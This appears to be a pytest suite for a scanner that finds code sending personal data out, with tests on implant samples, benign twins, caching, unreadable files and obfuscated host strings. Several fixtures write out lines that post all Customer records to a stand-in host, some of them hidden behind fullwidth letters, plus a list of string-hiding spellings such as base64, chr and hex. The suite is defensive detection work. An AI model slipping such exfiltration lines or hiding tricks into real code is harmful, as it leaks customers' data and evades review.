"""Personal data that code sends out, in Python and JavaScript, over implants and their benign twins."""

from __future__ import annotations

import os
import tempfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from bench.implants import HOST, IMPLANTS, WITHOUT_HOST
from bench.twins import TWINS
from hypothesis import given, settings
from hypothesis import strategies as st

from waybill.exposure import FAMILIES, survey
from waybill.exposure.code.bodies import Body
from waybill.exposure.code.cache import Cache, Seen, signature_of
from waybill.exposure.code.flows import Flow
from waybill.exposure.code.program import Code, read
from waybill.exposure.code.recording import Scope
from waybill.exposure.snapshots import NotInspected
from waybill.model.register import Place, RegisterSnapshot


def flows(folder: Path, files: dict[str, str]) -> list[Flow]:
    for name, content in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(content)
    (code,) = read(folder)
    assert isinstance(code, Code)
    return code.departures


@pytest.mark.parametrize("name", IMPLANTS)
def test_implants(tmp_path: Path, name: str) -> None:
    found = flows(tmp_path, IMPLANTS[name])
    assert found
    if name not in WITHOUT_HOST:
        assert {flow.exit.host for flow in found} == {HOST}
    assert all(flow.path[-1].line == flow.exit.line for flow in found)


@pytest.mark.parametrize("name", TWINS)
def test_twins(tmp_path: Path, name: str) -> None:
    assert flows(tmp_path, TWINS[name]) == []


def test_every_step_is_told(tmp_path: Path) -> None:
    (flow,) = flows(tmp_path, IMPLANTS["three_modules"])
    assert flow.path[0].file == "shop/reports.py"
    assert {step.file for step in flow.path} >= {"shop/reports.py", "shop/health.py"}
    assert flow.path[0].what == "reads Customer"


@pytest.mark.parametrize("name", ["hidden_host", "chr_host"])
def test_hidden_hosts(tmp_path: Path, name: str) -> None:
    (flow,) = flows(tmp_path, IMPLANTS[name])
    assert flow.exit.hidden


def test_the_register_says_where_data_may_go(tmp_path: Path) -> None:
    flows(tmp_path, IMPLANTS["straight"])
    family = FAMILIES["code"]
    now = datetime(2026, 3, 1, tzinfo=UTC)
    (finding,) = survey(family.read(str(tmp_path)), family.checks(), RegisterSnapshot(), now).findings
    assert f"sends Customer over HTTP to {HOST}" in finding.sentence.en
    assert [part.value for part in finding.parts if part.name == "step 1"] == ["a.py:6 reads Customer"]
    approved = RegisterSnapshot(places=(Place(id="mailer", patterns=(".example.net",), approved_egress=True),))
    assert not survey(family.read(str(tmp_path)), family.checks(), approved, now).findings


def test_moved_code_keeps_its_identity(tmp_path: Path) -> None:
    family = FAMILIES["code"]
    now = datetime(2026, 3, 1, tzinfo=UTC)
    flows(tmp_path, IMPLANTS["straight"])
    first = survey(family.read(str(tmp_path)), family.checks(), RegisterSnapshot(), now)
    (tmp_path / "a.py").write_text("# moved\n" * 30 + IMPLANTS["straight"]["a.py"])
    again = survey(family.read(str(tmp_path)), family.checks(), RegisterSnapshot(), now, before=first.open)
    assert (again.opened, again.closed) == ([], [])


def test_what_cannot_be_read_is_said(tmp_path: Path) -> None:
    (tmp_path / "broken.py").write_text("import requests\ndef f(:\n")
    (tmp_path / "zero.py").write_bytes(b"import requests\n\0")
    (tmp_path / "deep.py").write_text("import socket\nx = " + "(" * 5000 + ")" * 5000)
    (tmp_path / "long.py").write_bytes(b"#" * (5 << 20))
    (tmp_path / "round").symlink_to(tmp_path)
    gaps = [one for one in read(tmp_path) if isinstance(one, NotInspected)]
    assert {gap.what for gap in gaps} == {"broken.py", "zero.py", "deep.py", "long.py"}


@given(st.text(st.characters(max_codepoint=0x2FF), min_size=1, max_size=20))
def test_spellings_come_to_the_same(text: str) -> None:
    import ast
    import base64

    spellings = [
        repr(text),
        f"{text[:3]!r} + {text[3:]!r}",
        f"base64.b64decode({base64.b64encode(text.encode())!r}).decode()",
        f"''.join(map(chr, {[ord(c) for c in text]}))",
        f"''.join(chr(c) for c in {[ord(c) for c in text]})",
        f"{text[::-1]!r}[::-1]",
        f"bytes.fromhex({text.encode().hex()!r}).decode()",
        f"''.join([{', '.join(repr(c) for c in text)}])",
    ]
    for number, spelling in enumerate(spellings):
        scope = Scope("m", is_script=False, ours=frozenset())
        Body(scope, "m.<module>").run(ast.parse(f"found = {spelling}").body)
        assert scope.values["found"].const == text
        assert scope.values["found"].hidden is (number in {2, 3, 4, 5, 6})


def test_what_was_learnt_is_not_learnt_again(tmp_path: Path) -> None:
    cache = Cache(tmp_path / "learnt.sqlite")
    root = tmp_path / "shop"
    for name, content in IMPLANTS["three_modules"].items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(content)
    first, *_ = read(root, cache)
    again, *_ = read(root, Cache(tmp_path / "learnt.sqlite"))
    assert isinstance(first, Code)
    assert isinstance(again, Code)
    assert again.flows == first.flows
    (root / "shop/health.py").write_text("import requests\n")
    changed, *_ = read(root, Cache(tmp_path / "learnt.sqlite"))
    assert isinstance(changed, Code)
    assert changed.flows == []


def _looking_alike(root: Path, learnt: Path, seconds: float) -> list[object]:
    """Return what an audit tells of a file that looks as it did to one before, which began so long after its change."""
    file = root / "pay.py"
    root.mkdir(exist_ok=True)
    file.write_text("import hashlib\n\n\ndef sign(x):\n    return hashlib.sha256(x)\n")
    list(read(root, Cache(learnt)))
    before = Cache(learnt).tree(root)[b"pay.py"]
    file.write_text("import hashlib\n\n\ndef sign(x, y):\n    return hashlib.md5(x)\n")
    status = file.stat()
    since = max(status.st_mtime_ns, status.st_ctime_ns) + int(seconds * 1e9)
    Cache(learnt).keep_tree(root, {b"pay.py": Seen(signature_of(status), before.digest, before.look, since)})
    code, *_ = read(root, Cache(learnt))
    assert isinstance(code, Code)
    return [misuse.rule for _, misuse in code.misuses]


def test_content_decides_where_a_file_changed_just_before_it_was_seen(tmp_path: Path) -> None:
    """A change within the same tick of the clock leaves no trace but in the content."""
    for seconds in (-1, 0, 1.9):
        assert _looking_alike(tmp_path / "shop", tmp_path / "learnt.sqlite", seconds)


def test_what_looks_the_same_for_long_is_not_opened(tmp_path: Path) -> None:
    assert not _looking_alike(tmp_path / "shop", tmp_path / "learnt.sqlite", 2.1)


def test_a_change_that_hides_its_time_is_seen(tmp_path: Path) -> None:
    """Size and time of change can be set back; when the status changed cannot."""
    root, learnt = tmp_path / "shop", tmp_path / "learnt.sqlite"
    root.mkdir()
    file = root / "pay.py"
    file.write_text("import hashlib\n\nsign = hashlib.sha1\n\n\ndef used(x):\n    return hashlib.new('md5', x)\n")
    long_ago = 1_600_000_000_000_000_000
    os.utime(file, ns=(long_ago, long_ago))
    first, *_ = read(root, Cache(learnt))
    tree = Cache(learnt).tree(root)
    tree[b"pay.py"].since += 60_000_000_000  # as if it had been left alone for a minute before
    Cache(learnt).keep_tree(root, tree)
    file.write_text(file.read_text().replace("'md5'", "'sha'"))
    os.utime(file, ns=(long_ago, long_ago))
    again, *_ = read(root, Cache(learnt))
    cold, *_ = read(root)
    assert isinstance(first, Code)
    assert isinstance(again, Code)
    assert isinstance(cold, Code)
    assert list(again.misuses) == list(cold.misuses) != list(first.misuses)


_EDITS = (
    "\n# changed\n",
    "\nimport requests\n",
    "\n\ndef added(rows):\n    import requests\n\n    requests.post('https://odd.example/in', json=list(rows))\n",
    "\nfrom shop.models import Customer\nfound = list(Customer.objects.all())\n",
)


@given(
    sample=st.sampled_from(sorted(name for name, files in IMPLANTS.items() if len(files) > 1)),
    edits=st.lists(st.tuples(st.integers(0, 9), st.sampled_from(_EDITS)), min_size=1, max_size=3),
)
@settings(max_examples=25, deadline=None)
def test_what_was_learnt_changes_no_answer(sample: str, edits: list[tuple[int, str]]) -> None:
    """A warm audit tells what a cold one does, whatever was changed between."""
    with tempfile.TemporaryDirectory() as folder:
        root, learnt = Path(folder) / "program", Path(folder) / "learnt.sqlite"
        for name, content in IMPLANTS[sample].items():
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).write_text(content)
        list(read(root, Cache(learnt)))
        names = sorted(name for name in IMPLANTS[sample] if name.endswith(".py")) or sorted(IMPLANTS[sample])
        for place, edit in edits:
            with (root / names[place % len(names)]).open("a") as file:
                file.write(edit)
            warm, *warm_gaps = read(root, Cache(learnt))
            cold, *cold_gaps = read(root)
            assert isinstance(warm, Code)
            assert isinstance(cold, Code)
            assert warm.flows == cold.flows
            assert list(warm.misuses) == list(cold.misuses)
            assert list(warm.secrets) == list(cold.secrets)
            assert warm_gaps == cold_gaps


def test_letters_that_only_look_like_others_hide_nothing(tmp_path: Path) -> None:
    """Words that cannot be seen in the bytes make a file worth a full reading."""
    hidden = "import \N{FULLWIDTH LATIN SMALL LETTER R}equests\nfrom shop.models import Customer\n"
    hidden += f"requests.post('https://{HOST}', json=list(Customer.objects.all()))\n"
    assert [flow.exit.host for flow in flows(tmp_path, {"a.py": hidden})] == [HOST]


def test_packed_bundles_and_endless_code_are_said(tmp_path: Path) -> None:
    (tmp_path / "bundle.js").write_text("fetch(x);" * 60_000)
    (tmp_path / "deep.py").write_text(
        "import requests\n" + "".join("  " * n + f"while x{n}:\n" for n in range(60)) + "  " * 60 + "pass\n"
    )
    (tmp_path / "nonsense.js").write_text("fetch( " + "}{)(" * 500)
    gaps = {one.what for one in read(tmp_path) if isinstance(one, NotInspected)}
    assert {"bundle.js", "nonsense.js"} <= gaps


def test_numbers_of_any_size_can_be_kept(tmp_path: Path) -> None:
    """A number that no format takes stands in the code of curves and primes; it must not end an audit."""
    for folder, sign in (("one", ""), ("other", "-")):
        code = f"import requests\n\ndef f(prime={sign}2 ** 200):\n    requests.post('https://a.example', json=prime)\n"
        code += f"\nf({sign}{1 << 70})\nf(prime={sign}{1 << 300})\n"
        assert flows(tmp_path / folder, {"a.py": code}) == []
